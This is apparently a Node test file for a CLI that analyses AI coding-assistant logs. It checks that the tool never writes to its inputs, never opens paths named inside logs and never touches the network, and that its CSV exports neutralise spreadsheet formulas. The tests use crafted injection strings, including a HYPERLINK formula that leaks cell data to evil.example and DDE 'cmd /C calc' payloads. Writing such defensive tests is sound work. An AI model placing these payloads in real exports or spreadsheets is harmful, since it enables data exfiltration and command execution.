/**
 * Output safety and privacy (issue #6): the input directory is never written
 * to; outputs go only where the user says; `--out` onto an input is refused;
 * CSV cells from log content cannot become spreadsheet formulas; paths found
 * inside logs are never opened; no network access at run time.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { execFileSync, spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { runCliInProcess, spawnCli } from '../helpers/cli.js';

const FIXTURES = ['test/fixtures/claude-code/traps', 'test/fixtures/csv', 'test/fixtures/transcript', 'test/fixtures/codex', 'test/fixtures/claude-stream-json'];

/** path (relative) -> sha256 of content + mode, for every entry below `dir` (directories included). */
function snapshot(dir: string): Map<string, string> {
  const out = new Map<string, string>();
  const visit = (abs: string): void => {
    for (const name of readdirSync(abs).sort()) {
      const p = join(abs, name);
      const st = statSync(p);
      const rel = relative(dir, p);
      if (st.isDirectory()) {
        out.set(`${rel}/`, `dir ${st.mode}`);
        visit(p);
      } else out.set(rel, `${createHash('sha256').update(readFileSync(p)).digest('hex')} ${st.mode} ${st.size}`);
    }
  };
  visit(dir);
  return out;
}

function assertUnchanged(dir: string, before: Map<string, string>, what: string): void {
  const after = snapshot(dir);
  const added = [...after.keys()].filter((k) => !before.has(k));
  const removed = [...before.keys()].filter((k) => !after.has(k));
  const changed = [...before.keys()].filter((k) => after.has(k) && after.get(k) !== before.get(k));
  assert.deepEqual({ added, removed, changed }, { added: [], removed: [], changed: [] }, `${what} touched the input directory`);
}

function makeInputCopy(root: string): string {
  const input = join(root, 'input');
  mkdirSync(input);
  for (const f of FIXTURES) cpSync(f, join(input, f.split('/').pop() as string), { recursive: true });
  return input;
}

test('no command writes into the input directory; outputs land only where asked', async () => {
  const root = mkdtempSync(join(tmpdir(), 'te-safety-'));
  try {
    const input = makeInputCopy(root);
    const outDir = join(root, 'out');
    mkdirSync(outDir);
    const before = snapshot(input);
    assert.ok(before.size > 10, 'the copy has files');
    const runs: string[][] = [
      ['sessions', input],
      ['sessions', '--json', input],
      ['sessions', '--json', '.'],
      ['analyze', input],
      ['analyze', '--json', input],
      ['analyze', '--csv', input],
      ['analyze', '--out', join(outDir, 'analysis.json'), '--json', input],
      ['analyze', '--out', join(outDir, 'analysis.csv'), '--csv', input],
      ['report', input],
      ['report', '--out', join(outDir, 'report.html'), input],
      ['simulate', input],
      ['pricing'],
    ];
    for (const args of runs) {
      // cwd = the input directory: a default output file name would land there.
      const run = await runCliInProcess(args, { cwd: input });
      assert.notEqual(run.exitCode, 3, `${args.join(' ')}: ${run.stderr}`);
      assertUnchanged(input, before, args.join(' '));
    }
    // Whatever was written went to the out directory and nowhere else.
    for (const name of readdirSync(outDir)) assert.ok(['analysis.json', 'analysis.csv', 'report.html'].includes(name), name);
  } finally {
    rmSync(root, { recursive: true, force: true });
  }
});

test('--out onto an input file (or into the input directory) is refused with exit 2', async () => {
  const root = mkdtempSync(join(tmpdir(), 'te-safety-'));
  try {
    const input = makeInputCopy(root);
    const target = join(input, 'transcript', 'debug-chat.jsonl');
    const before = snapshot(input);
    let checked = 0;
    for (const [command, extra] of [['analyze', ['--json']], ['report', []]] as const) {
      const run = await runCliInProcess([command, ...extra, '--out', target, input]);
      assert.equal(run.exitCode, 2, `${command} --out <input file>: exit ${run.exitCode}, ${run.stderr}`);
      assert.ok(!/^\s+at /m.test(run.stderr));
      assertUnchanged(input, before, `${command} --out <input file>`);
      checked++;
    }
    assert.equal(checked, 2);
  } finally {
    rmSync(root, { recursive: true, force: true });
  }
});

/** Minimal RFC 4180 reader: rows of cells (quoted cells unquoted). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell.length === 0) quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell.length > 0 || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/** True when a spreadsheet would evaluate the cell. Plain numbers (-12, +3.5, -1e3) are data, not formulas. */
function isFormula(cell: string): boolean {
  if (!/^[=+\-@\t\r]/.test(cell)) return false;
  return !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?$/.test(cell);
}

const EVIL = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'];

function evilClaudeLog(session: string, project: string, model: string): string {
  const base = { parentUuid: null, isSidechain: false, userType: 'external', cwd: project, sessionId: session, version: '2.0.30' };
  return [
    JSON.stringify({ ...base, uuid: 'u1', timestamp: '2026-02-02T09:00:00.000Z', type: 'user', message: { role: 'user', content: 'hi' } }),
    JSON.stringify({
      ...base,
      uuid: 'a1',
      parentUuid: 'u1',
      timestamp: '2026-02-02T09:00:03.000Z',
      type: 'assistant',
      requestId: `req_${session.length}`,
      message: { id: `msg_${session.length}`, type: 'message', role: 'assistant', model, content: [{ type: 'text', text: 'x' }], usage: { input_tokens: 10, cache_creation_input_tokens: 100, cache_read_input_tokens: 0, output_tokens: 5 } },
    }),
  ].join('\n');
}

test('CSV output neutralises formula-looking cells that come from log content', async () => {
  const root = mkdtempSync(join(tmpdir(), 'te-csv-'));
  try {
    const dir = join(root, 'logs');
    mkdirSync(dir);
    EVIL.forEach((evil, i) => {
      const project = join(dir, `proj${i}`);
      mkdirSync(project);
      writeFileSync(join(project, `${evil.replace(/[/\\|"'<>*?:]/g, '_')}.jsonl`), `${evilClaudeLog(evil, evil, evil)}\n`);
    });
    writeFileSync(
      join(dir, 'export.csv'),
      ['timestamp,model,input_tokens,output_tokens,session_id,project', ...EVIL.map((e, i) => `2026-01-0${i + 1}T00:00:00Z,"${e.replace(/"/g, '""')}",100,10,"${e.replace(/"/g, '""')}","${e.replace(/"/g, '""')}"`)].join('\n') + '\n',
    );
    // The crafted strings really reach the sessions (otherwise the test proves nothing).
    const sessions = await runCliInProcess(['sessions', '--json', dir]);
    assert.equal(sessions.exitCode, 0, sessions.stderr);
    assert.ok(EVIL.some((e) => sessions.stdout.includes(JSON.stringify(e).slice(1, -1))), 'crafted names reach the results');
    const run = await runCliInProcess(['analyze', '--csv', dir]);
    assert.equal(run.exitCode, 0, run.stderr);
    const rows = parseCsv(run.stdout);
    assert.ok(rows.length > 1, 'CSV has data rows');
    const formulas = rows.flat().filter(isFormula);
    assert.deepEqual(formulas, [], 'cells a spreadsheet would evaluate');
    // The content is neutralised, not dropped: the names are still there behind a leading quote.
    assert.ok(rows.flat().some((c) => c.includes('HYPERLINK')), 'crafted model name kept (neutralised) in the CSV');
  } finally {
    rmSync(root, { recursive: true, force: true });
  }
});

test('paths found inside logs are never opened (a FIFO that would block forever)', async () => {
  const root = mkdtempSync(join(tmpdir(), 'te-fifo-'));
  try {
    const trap = join(root, 'trap.fifo');
    execFileSync('mkfifo', [trap]);
    const logs = join(root, 'logs', '-trap-project');
    mkdirSync(logs, { recursive: true });
    const sid = '0d2b0c55-1111-4222-8333-444455556666';
    const base = { parentUuid: null, isSidechain: false, userType: 'external', cwd: trap, sessionId: sid, version: '2.0.30' };
    const lines = [
      { ...base, uuid: 'u1', timestamp: '2026-02-02T09:00:00.000Z', type: 'user', message: { role: 'user', content: `read ${trap}` } },
      {
        ...base,
        uuid: 'a1',
        timestamp: '2026-02-02T09:00:03.000Z',
        type: 'assistant',
        requestId: 'req_1',
        message: {
          id: 'msg_1',
          role: 'assistant',
          model: 'claude-sonnet-4-5-20250929',
          content: [{ type: 'tool_use', id: 'tu1', name: 'Read', input: { file_path: trap } }],
          usage: { input_tokens: 10, cache_creation_input_tokens: 0, cache_read_input_tokens: 0, output_tokens: 5 },
        },
      },
      { ...base, uuid: 'u2', timestamp: '2026-02-02T09:00:04.000Z', type: 'user', toolUseResult: { file: { filePath: trap } }, message: { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'tu1', content: trap }] } },
      { type: 'summary', summary: 'x', leafUuid: 'a1', transcript_path: trap },
    ];
    writeFileSync(join(logs, `${sid}.jsonl`), `${lines.map((l) => JSON.stringify(l)).join('\n')}\n`);
    writeFileSync(join(root, 'logs', 'transcript.jsonl'), `${JSON.stringify({ role: 'user', content: 'x', file: trap, path: trap })}\n`);
    for (const args of [['sessions', '--json'], ['analyze', '--json'], ['report']]) {
      const started = Date.now();
      const run = await Promise.race([
        spawnCli([...args, join(root, 'logs')]),
        new Promise<null>((resolve) => setTimeout(() => resolve(null), 20_000).unref()),
      ]);
      assert.ok(run !== null, `${args.join(' ')} hung: it opened the FIFO named inside the log`);
      assert.notEqual(run.exitCode, 3, run.stderr);
      assert.ok(Date.now() - started < 20_000);
      if (args[0] === 'sessions') {
        assert.equal(run.exitCode, 0, run.stderr);
        assert.ok(run.stdout.includes(sid), 'the trap session was read');
      }
    }
    // A FIFO given on the command line is the user's choice, but one inside a directory walk is skipped.
    assert.ok(existsSync(trap));
  } finally {
    rmSync(root, { recursive: true, force: true });
  }
});

const GUARD = `
import net from 'node:net';
import tls from 'node:tls';
import http from 'node:http';
import https from 'node:https';
import dns from 'node:dns';
import dgram from 'node:dgram';
import { syncBuiltinESMExports } from 'node:module';
const deny = (what) => function () {
  process.stderr.write('NETWORK-ACCESS-ATTEMPT ' + what + '\\n');
  throw new Error('network access denied by test: ' + what);
};
net.connect = net.createConnection = deny('net.connect');
net.Socket.prototype.connect = deny('net.Socket.connect');
tls.connect = deny('tls.connect');
http.request = http.get = deny('http.request');
https.request = https.get = deny('https.request');
dns.lookup = dns.resolve = dns.resolve4 = dns.resolve6 = deny('dns.lookup');
dns.promises.lookup = dns.promises.resolve = deny('dns.promises.lookup');
dgram.createSocket = deny('dgram.createSocket');
globalThis.fetch = deny('fetch');
syncBuiltinESMExports();
`;

test('no network access at run time: every command works with the network denied', async () => {
  const root = mkdtempSync(join(tmpdir(), 'te-net-'));
  try {
    const guard = join(root, 'deny-network.mjs');
    writeFileSync(guard, GUARD);
    const env = { NODE_OPTIONS: `--import ${guard}` };
    // Positive control: the guard really catches fetch, sockets and DNS (else this test could not fail).
    const control = spawnSync(
      process.execPath,
      ['--input-type=module', '-e', "for (const f of [() => fetch('http://example.com'), async () => (await import('node:net')).connect(80, 'example.com'), async () => (await import('node:dns')).promises.lookup('example.com')]) { try { await f() } catch {} }"],
      { env: { ...process.env, ...env }, encoding: 'utf8' },
    );
    for (const what of ['fetch', 'net.connect', 'dns.promises.lookup']) assert.ok(control.stderr.includes(`NETWORK-ACCESS-ATTEMPT ${what}`), `guard misses ${what}: ${control.stderr}`);
    const stderrOf = (r: { stderr: string }): string => r.stderr;
    const runs = [
      ['sessions', 'samples'],
      ['sessions', '--json', 'samples'],
      ['pricing'],
      ['pricing', 'claude-sonnet-4-5-20250929'],
      ['analyze', 'samples'],
      ['analyze', '--json', 'samples'],
      ['simulate', 'samples'],
      ['report', '--out', join(root, 'report.html'), 'samples'],
    ];
    for (const args of runs) {
      const run = await spawnCli(args, { env });
      assert.ok(!stderrOf(run).includes('NETWORK-ACCESS-ATTEMPT'), `${args.join(' ')} tried the network: ${run.stderr}`);
      assert.notEqual(run.exitCode, 3, `${args.join(' ')}: ${run.stderr}`);
      if (args[0] === 'sessions' || args[0] === 'pricing') assert.equal(run.exitCode, 0, `${args.join(' ')}: ${run.stderr}`);
    }
  } finally {
    rmSync(root, { recursive: true, force: true });
  }
});
